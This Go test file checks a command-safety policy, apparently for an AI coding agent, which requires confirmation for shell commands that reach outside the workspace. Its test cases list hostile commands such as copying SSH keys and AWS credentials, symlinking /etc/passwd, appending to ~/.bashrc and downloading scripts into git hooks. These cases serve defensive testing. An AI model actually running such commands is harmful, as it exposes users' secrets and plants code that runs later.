package safety

import (
	"context"
	"strings"
	"testing"
)

// Round 4: paths hidden by option parsing, and starting points that list
// what lies outside the workspace, under the allow rules a user writes.
// Each attack case was allowed before its fix; the harmless neighbours
// show that everyday forms stay allowed.
func TestPolicyRound4Paths(t *testing.T) {
	w, _, _ := policyWorkspace(t)
	rules := CommandRules{AllowReadOnly: true, Allow: []string{"mkdir", "tee", "touch", "patch", "echo", "git config", "sort", "shuf", "cp", "mv", "ln", "install", "tsc", "eslint", "prettier", "gradle", "npx vitest", "jest", "npm test", "curl", "wget", "script", "ssh-keygen", "split", "bat"}}
	for _, tc := range []struct {
		cmd     string
		want    Decision
		mention string
	}{
		// -p is a flag of mkdir and tee, not a value-taking option.
		{"mkdir -p ~/.config/autostart", Confirm, "outside the workspace"},
		{"mkdir -pm 700 ~/bin", Confirm, "outside the workspace"},
		{"echo x | tee -p ~/.bashrc", Confirm, "outside the workspace"},
		{"echo x | tee -a -p .git/hooks/pre-commit", Confirm, ".git/hooks/pre-commit"},
		{"touch -r .env ~/stamp", Confirm, "outside the workspace"},
		{"patch -p1 -o ~/.bashrc < fix.patch", Confirm, "outside the workspace"},
		{"patch -d /etc -p1 < fix.patch", Confirm, "outside the workspace"},
		{"mkdir -p build/out", Allow, "allowed"},
		{"echo x | tee -p out.txt", Allow, "allowed"},
		{"patch -p1 < fix.patch", Allow, "allowed"},
		// -f is cp's and ln's --force, -T cp's --no-target-directory: no
		// value follows them.
		{"cp -f ~/.ssh/id_rsa key.txt", Confirm, "outside the workspace"},
		{"cp -T ~/.aws/credentials c.txt", Confirm, "outside the workspace"},
		{"mv -f ~/.bashrc x", Confirm, "outside the workspace"},
		{"ln -sf /etc/passwd notes.txt", Confirm, "outside the workspace"},
		{"install -m 644 ~/.netrc n.txt", Confirm, "outside the workspace"},
		{"cp -f notes.txt n2.txt", Allow, "allowed"},
		{"ln -sf notes.txt n4.txt", Allow, "allowed"},
		{"install -m 644 notes.txt n5.txt", Allow, "allowed"},
		// find lists its starting points as ls does.
		{"find ~ -name '*.pem'", Confirm, "outside the workspace"},
		{"find / -name id_rsa", Confirm, "outside the workspace"},
		{"find -L ~/.ssh -type f", Confirm, "outside the workspace"},
		{"find .. -name x", Confirm, "outside the workspace"},
		{"find . -name '*.go'", Allow, "read-only"},
		{"find sub -type f", Allow, "read-only"},
		// git config -f names the file; --global writes every repository's.
		{"git config -f ~/.gitconfig user.name x", Confirm, "outside the workspace"},
		{"git config --global user.name x", Confirm, "outside the repository"},
		{"git config -f .env --list", Confirm, ".env"},
		{"git config user.name x", Allow, "allowed"},
		{"git config --get user.email", Allow, "allowed"},
		// rg --files takes paths only; bc reads its operands as programs.
		{"rg --files ~", Confirm, "outside the workspace"},
		{"rg --files sub", Allow, "read-only"},
		{"bc .env", Confirm, ".env"},
		// Build tools without an option model: a path outside the
		// workspace is a configuration file or plugin that runs code.
		{"tsc -p /tmp/x", Confirm, "outside the workspace"},
		{"eslint -c /tmp/x.js .", Confirm, "outside the workspace"},
		{"prettier --plugin=/tmp/x.js --write .", Confirm, "outside the workspace"},
		{"gradle --init-script /tmp/x.gradle test", Confirm, "outside the workspace"},
		{"npx vitest --root /", Confirm, "outside the workspace"},
		{"jest --config ~/jest.config.js", Confirm, "outside the workspace"},
		{"npm test --workspace=../x", Confirm, "outside the workspace"},
		{"tsc --noEmit", Allow, "allowed"},
		{"eslint sub", Allow, "allowed"},
		{"npx vitest run", Allow, "allowed"},
		{"npm test -w sub", Allow, "allowed"},
		// Downloads into a directory, session logs, and unknown tools'
		// operands write where code runs later.
		{"curl --output-dir .git/hooks -O http://x/pre-commit", Confirm, ".git/hooks/pre-commit"},
		{"curl --output-dir .git/hooks -o pre-commit http://x/a", Confirm, ".git/hooks/pre-commit"},
		{"wget -P .git/hooks http://x/pre-commit", Confirm, ".git/hooks/pre-commit"},
		{"script .git/hooks/pre-commit", Confirm, ".git/hooks/pre-commit"},
		{"ssh-keygen -f .git/hooks/pre-commit -N ''", Confirm, ".git/hooks/pre-commit"},
		{"split -b 1k notes.txt .git/hooks/pre-", Confirm, ".git/hooks/pre-"},
		{"curl --output-dir dl -O http://x/a.json", Allow, "allowed"},
		{"wget -P dl http://x/a.json", Allow, "allowed"},
		{"bat notes.txt", Allow, "allowed"},
		// The random source decides the order shown.
		{"sort -R --random-source=.env notes.txt", Confirm, ".env"},
		{"shuf --random-source .env notes.txt", Confirm, ".env"},
		{"sort -R notes.txt", Allow, "allowed"},
	} {
		p := &Policy{Workspace: w, Rules: rules}
		a := p.AssessCommand(context.Background(), tc.cmd, "")
		if a.Decision != tc.want || !strings.Contains(a.Reason(), tc.mention) {
			t.Errorf("AssessCommand(%q) = %v, want %v mentioning %q\nreasons: %s", tc.cmd, a.Decision, tc.want, tc.mention, a.Reason())
		}
	}
}
